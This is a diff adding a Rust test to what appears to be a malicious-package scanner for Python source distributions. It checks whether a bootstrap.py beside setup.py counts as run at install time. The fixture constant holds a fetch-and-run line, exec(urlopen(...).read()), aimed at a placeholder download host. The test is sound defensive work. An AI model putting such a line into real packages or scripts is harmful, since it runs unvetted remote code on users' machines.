@@ -274,3 +274,36 @@ fn a_working_copy_of_the_imitated_project_with_code_added_is_named() {
     assert_eq!(r.verdict, VerdictKind::Malicious);
     assert!(r.techniques.iter().any(|t| t == "behaviour-overlap"));
 }
+
+/// A buildout `bootstrap.py` fetches and runs an installer when someone runs it.
+const FETCH_AND_RUN: &str = "from urllib.request import urlopen\nexec(urlopen('http://downloads.example.org/ez_setup.py').read())\n";
+
+#[test]
+fn a_script_beside_setup_py_of_a_src_layout_is_not_installed() {
+    let sdist = |setup: &str| {
+        targz(&[
+            ("rater-1.0/setup.py", setup.as_bytes()),
+            ("rater-1.0/bootstrap.py", FETCH_AND_RUN.as_bytes()),
+            ("rater-1.0/src/rater/__init__.py", b"VERSION = '1.0'\n"),
+        ])
+    };
+    let honest = "from setuptools import setup, find_packages\nsetup(name='rater', packages=find_packages('src'), package_dir={'': 'src'})\n";
+    let r = scan("/x/rater-1.0.tar.gz", &sdist(honest));
+    assert_ne!(r.verdict, VerdictKind::Malicious, "{:#?}", r.reasons);
+    let exec = r.findings.iter().find(|f| f.rule == RuleId::Exe002);
+    assert!(
+        exec.is_some_and(|f| f.auxiliary && f.trigger == Some(malpi_python::Trigger::Runtime)),
+        "the script is still read and reported: {exec:#?}"
+    );
+    // Near miss: setup.py runs the script, so its code runs at install.
+    let runs_it = format!("import bootstrap\n{honest}");
+    let r = scan("/x/rater-1.0.tar.gz", &sdist(&runs_it));
+    assert_eq!(r.verdict, VerdictKind::Malicious, "{:#?}", r.findings);
+    // Near miss: without `src/`, a module beside setup.py is installed and imported.
+    let flat = targz(&[
+        ("rater-1.0/setup.py", honest.as_bytes()),
+        ("rater-1.0/bootstrap.py", FETCH_AND_RUN.as_bytes()),
+    ]);
+    let r = scan("/x/rater-1.0.tar.gz", &flat);
+    assert_eq!(r.verdict, VerdictKind::Malicious, "{:#?}", r.findings);
+}
